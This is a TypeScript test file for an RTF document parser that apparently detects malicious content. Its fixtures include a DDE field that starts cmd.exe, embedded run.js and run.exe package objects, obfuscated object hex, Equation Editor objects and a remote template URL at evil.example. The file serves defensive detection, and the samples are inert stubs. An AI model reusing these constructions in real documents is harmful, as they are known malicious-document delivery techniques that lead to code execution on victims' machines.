import { describe, expect, test } from 'vitest';
import { readFile } from '../../../src/parse/files/read-file.ts';
import { ole } from '../../helpers/office.ts';
import { oldObject, packaged, packageStream } from '../../helpers/old-object.ts';

const look = (source: string, name = 'letter.doc') =>
  readFile({ bytes: Buffer.from(source, 'latin1'), name, declaredType: '', inline: false });
const rtf = (body: string) => `{\\rtf1\\ansi\\ansicpg1252${body}}`;
const withObject = (hex: string, head = '\\objemb{\\*\\objclass Package}') =>
  rtf(`{\\object${head}{\\*\\objdata ${hex}}{\\result see here}}`);
const equation = Buffer.from('02ce020000000000c000000000000046', 'hex');

describe('the words of Rich Text', () => {
  test('are those of the page: no fonts, no styles, no hex of objects', async () => {
    const head = '{\\fonttbl{\\f0 Times New Roman;}}{\\stylesheet{\\s0 Normal;}}{\\*\\generator Some Writer;}';
    const content = await look(rtf(`${head}\\pard Dear Ada,\\par please {\\b pay} \\'80 5{\\pict 89504e47}`));
    expect(content).toMatchObject({ type: 'rtf', text: 'Dear Ada,\nplease pay € 5', traits: [], gaps: [] });
  });

  test('are decoded by their code page, and from Unicode with its stand-ins', async () => {
    expect((await look("{\\rtf1\\ansicpg936 \\'c7\\'eb\\uc2\\u30830\\'c8\\'b7 ok}")).text).toBe('请确 ok');
  });

  test('fields are links, split over groups too', async () => {
    const field = '{\\field{\\*\\fldinst {HYPER}{\\f1 LINK "https://evil.example/r"}}{\\fldrslt {click}}}';
    const content = await look(rtf(field));
    expect(content.links.map(({ url }) => url)).toEqual(['https://evil.example/r']);
    expect(content.text).toBe('click');
  });

  test('a field that starts a program is named', async () => {
    const field = '{\\field{\\*\\fldinst {DDE}{AUTO c:\\\\\\\\windows\\\\\\\\system32\\\\\\\\cmd.exe "/c calc"}}}';
    expect((await look(rtf(field))).traits).toEqual(['command-in-field']);
  });
});

describe('objects in Rich Text', () => {
  test('a file packed into it is named and looked into', async () => {
    const content = await look(
      withObject(oldObject('Package', packaged('run.js', 'WScript.Echo("https://evil.example")'))),
    );
    expect(content.entries.map(({ name }) => name)).toEqual(['run.js']);
    expect(content.traits).toEqual(['program-inside']);
    expect(content.gaps).toEqual([]);
  });

  test('a compound file in it is looked into', async () => {
    const inner = ole({ '\u0001Ole10Native': packageStream('run.exe', 'MZ\x90\0\x03\0\0\0') });
    const content = await look(withObject(oldObject('OLE2Link', inner)));
    expect(content.entries.map(({ name }) => name)).toEqual(['object-1.bin/run.exe']);
    expect(content.traits).toEqual(['program-inside']);
  });

  test('hex broken up by blanks, groups and words is put together', async () => {
    const hex = oldObject('Package', packaged('run.exe', 'MZ\x90\0\x03\0\0\0'));
    const broken = hex.replace(/.{20}/g, '$&\r\n{\\*\\junk 4f4f}\\qq12 ');
    expect((await look(withObject(broken))).traits).toEqual(['program-inside']);
  });

  test('bytes that stand there as they are count as well', async () => {
    const raw = Buffer.from(oldObject('Package', packaged('run.exe', 'MZ\x90\0\x03\0\0\0')), 'hex').toString('latin1');
    expect((await look(withObject(`\\bin${raw.length} ${raw}`))).traits).toEqual(['program-inside']);
  });

  test('an equation that updates itself, and one under a false name', async () => {
    const hex = oldObject('eQuATion.3', equation);
    expect((await look(withObject(hex, '\\objemb\\objupdate{\\*\\objclass Equation.3}'))).traits).toEqual([
      'external-object',
      'equation-editor',
    ]);
    expect((await look(withObject(hex, '\\objemb{\\*\\objclass Word.Document}'))).traits).toEqual(['equation-editor']);
  });

  test('a formula of an old paper passes', async () => {
    const hex = oldObject('Equation.3', equation);
    expect((await look(withObject(hex, '\\objemb{\\*\\objclass Equation.3}'))).traits).toEqual([]);
  });

  test('a template from elsewhere is also a link', async () => {
    const content = await look(rtf('{\\*\\template https://evil.example/t.dotm}'));
    expect(content.traits).toEqual(['remote-template']);
    expect(content.links.map(({ url }) => url)).toEqual(['https://evil.example/t.dotm']);
  });
});

test('nesting without end, and groups that never close, end in time', async () => {
  for (const piece of ['{', '{\\object\\objdata ', '}', '\\bin999999999 ', '{\\field{\\*\\fldinst HYPERLINK "']) {
    expect((await look(`{\\rtf1 ${piece.repeat(200_000)}`)).type).toBe('rtf');
  }
});
